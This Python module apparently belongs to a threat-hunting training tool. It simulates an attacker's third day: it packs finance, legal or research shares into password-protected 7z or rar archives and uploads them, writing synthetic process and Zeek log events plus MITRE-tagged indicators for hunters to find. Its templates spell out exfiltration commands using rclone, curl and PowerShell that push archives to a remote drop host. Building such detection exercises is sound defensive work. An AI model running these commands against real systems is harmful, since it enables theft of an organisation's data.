"""The third day: files of the share are packed with a password on the file server and carried off."""

from __future__ import annotations

from typing import TYPE_CHECKING

from huntbook.scenarios._clock import HOUR, MINUTE, SECOND
from huntbook.scenarios._intrusion._story import Place
from huntbook.scenarios._intrusion.foothold import CMD, POWERSHELL
from huntbook.scenarios._zeek import Volume

if TYPE_CHECKING:
    from random import Random

    from huntbook.scenarios._intrusion._story import Story
    from huntbook.scenarios._windows import Process

_FOLDERS = ("D:\\teams\\finance", "D:\\teams\\legal", "D:\\teams\\research")


def carry_off(story: Story) -> None:
    """Pack a folder and upload it."""
    rng, day = story.stream("exfiltration"), story.days[2]
    server = story.company.servers["files"]
    machine = story.world.machine(server)
    moment = day.start + rng.randrange(HOUR, 4 * HOUR)
    session = story.world.network_logon(rng, moment - MINUTE, story.stolen, (story.client, server), port=135,
                                        process=story.implants[2].process)  # fmt: skip
    shell = story.spawn(machine, moment, (CMD, "cmd.exe /Q /c cd \\"), machine.lasting["wmi"], account=story.stolen,
                        logon=session.logon, integrity="High", seconds=3600)  # fmt: skip
    archive = _pack(story, rng, moment + 3 * MINUTE, shell)
    _upload(story, rng, moment + rng.randrange(15, 40) * MINUTE, shell, archive)


def _pack(story: Story, rng: Random, moment: int, shell: Process) -> str:
    server = story.company.servers["files"]
    folder, secret = rng.choice(_FOLDERS), f"{rng.getrandbits(40):010x}"
    name = f"C:\\Windows\\Temp\\{rng.choice(['bk', 'upd', 'cache', 'kb'])}{rng.randrange(1000, 9999)}"
    image, line, archive = rng.choice([
        ("C:\\Windows\\Temp\\7za.exe", f"7za.exe a -t7z -mhe=on -p{secret} {name}.7z {folder}", f"{name}.7z"),
        ("C:\\Program Files\\7-Zip\\7z.exe", f'"C:\\Program Files\\7-Zip\\7z.exe" a -p{secret} -v500m {name}.7z {folder}\\*', f"{name}.7z"),
        ("C:\\ProgramData\\rar.exe", f"rar.exe a -r -hp{secret} -m5 {name}.rar {folder}", f"{name}.rar"),
    ])  # fmt: skip
    process = story.spawn(story.world.machine(server), moment, (image, line), shell, seconds=480)
    story.plant("collection", "T1560.001", moment, Place(server, story.stolen.name, "Security"), note=f"{folder} was packed into {archive} with a password.", process=process, indicators=[archive, folder])  # fmt: skip
    return archive


def _upload(story: Story, rng: Random, moment: int, shell: Process, archive: str) -> None:
    server, place = story.company.servers["files"], story.drop
    technique, image, line = rng.choice([
        ("T1567.002", "C:\\ProgramData\\rclone.exe", f"rclone.exe copy {archive} vault:{rng.getrandbits(24):06x} --transfers 8 --no-check-certificate"),
        ("T1048.002", "C:\\Windows\\System32\\curl.exe", f"curl.exe -k -s -T {archive} {place.url}/u/{rng.getrandbits(32):08x}"),
        ("T1567.002", POWERSHELL, f"powershell -nop -c \"Invoke-RestMethod -Uri {place.url}/put -Method Put -InFile '{archive}'\""),
    ])  # fmt: skip
    parts = rng.randrange(1, 4)
    process = story.spawn(story.world.machine(server), moment, (image, line), shell, seconds=240 * parts)
    story.world.resolve(rng, moment + 200, server, place.domain, place.address)
    sent = 0
    for number in range(parts):
        begun = moment + SECOND + number * 230 * SECOND
        volume = Volume(
            180 + rng.random() * 40,
            rng.randrange(6, 14) * 10**8 // parts + rng.randrange(10**6),
            rng.randrange(40_000, 90_000),
        )
        sent += volume.sent
        story.world.reach(rng, begun, server, (place.address, place.port), volume, server_name=place.domain)
    story.plant("exfiltration", technique, moment, Place(server, story.stolen.name, "Zeek conn"),
                files=["zeek/conn.log.gz", "zeek/ssl.log", story.logs.path_of(server)],
                note=f"{sent:,} bytes went to {place.domain}.", process=process, remote=place.remote,
                indicators=[place.address, place.domain, archive])  # fmt: skip
